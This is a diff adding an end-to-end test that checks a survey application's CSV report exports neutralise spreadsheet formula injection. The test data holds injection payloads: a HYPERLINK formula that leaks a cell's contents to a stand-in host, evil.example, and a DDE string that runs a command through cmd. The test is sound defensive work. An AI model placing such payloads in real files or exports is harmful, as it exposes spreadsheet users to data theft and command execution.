@@ -6,6 +6,7 @@ import { StatisticsRecomputeService } from '@app/statistics';
 import { EditionsRepository } from '@app/surveys';
 import { createTestApp, resetData, TestApp } from './support/test-app';
 import { createUser, tokenFor } from './support/factories';
+import { createMiniEdition, miniQuestionnaire } from './support/mini-editions';
 
 // eslint-disable-next-line @typescript-eslint/no-require-imports
 const pdfParse = require('pdf-parse/lib/pdf-parse.js') as (
@@ -203,5 +204,46 @@ describe('Reports (e2e)', () => {
     expect(Number(after.headers['x-statistics-version'])).toBe(
       Number(before.headers['x-statistics-version']) + 1,
     );
+  });
+
+  it('neutralises question texts that a spreadsheet would run as formulas, in every CSV export', async () => {
+    const hostile: Record<string, string> = {
+      'a.one': '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
+      'a.two': '-2+3',
+      'b.one': '@SUM(1,2)',
+      'n.attacks': "+1+cmd|' /C calc'!A0",
+    };
+    const def = miniQuestionnaire({ key: 'b.one' });
+    for (const q of def.areas.flatMap((a) => a.questions)) q.text.da = hostile[q.key];
+    const answers = Object.fromEntries(
+      [101, 147, 151, 153, 155, 157].map((code, i) => [
+        code,
+        { 'a.one': 1 + (i % 5), 'a.two': 2, 'b.one': 3, 'n.attacks': 4 },
+      ]),
+    );
+    const id = await createMiniEdition(t.db, t.app.get(EditionsRepository), 2031, def, answers);
+    await request(t.http).post(`/api/v1/editions/${id}/publish`).auth(kl, { type: 'bearer' }).expect(200);
+    await t.app.get(StatisticsRecomputeService).run(id);
+    const officer101 = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 101));
+    for (const [path, token] of [
+      ['national.csv', kl],
+      ['municipalities/101.csv', officer101],
+    ]) {
+      const csv = await request(t.http)
+        .get(`/api/v1/editions/${id}/reports/${path}`)
+        .auth(token, { type: 'bearer' })
+        .expect(200);
+      const cells = csv.text
+        .replace(/^\uFEFF/, '')
+        .trim()
+        .split('\r\n')
+        .map((line) => line.split(',')[0]);
+      expect(cells).toContain('a.one');
+      // A cell a spreadsheet runs starts (after the opening quote, if quoted) with = + - or @.
+      expect(csv.text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
+      expect(csv.text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klik"")",`);
+      expect(csv.text).toContain(`,"'-2+3",`);
+      expect(csv.text).toContain(`,"'@SUM(1,2)",`);
+    }
   });
 });
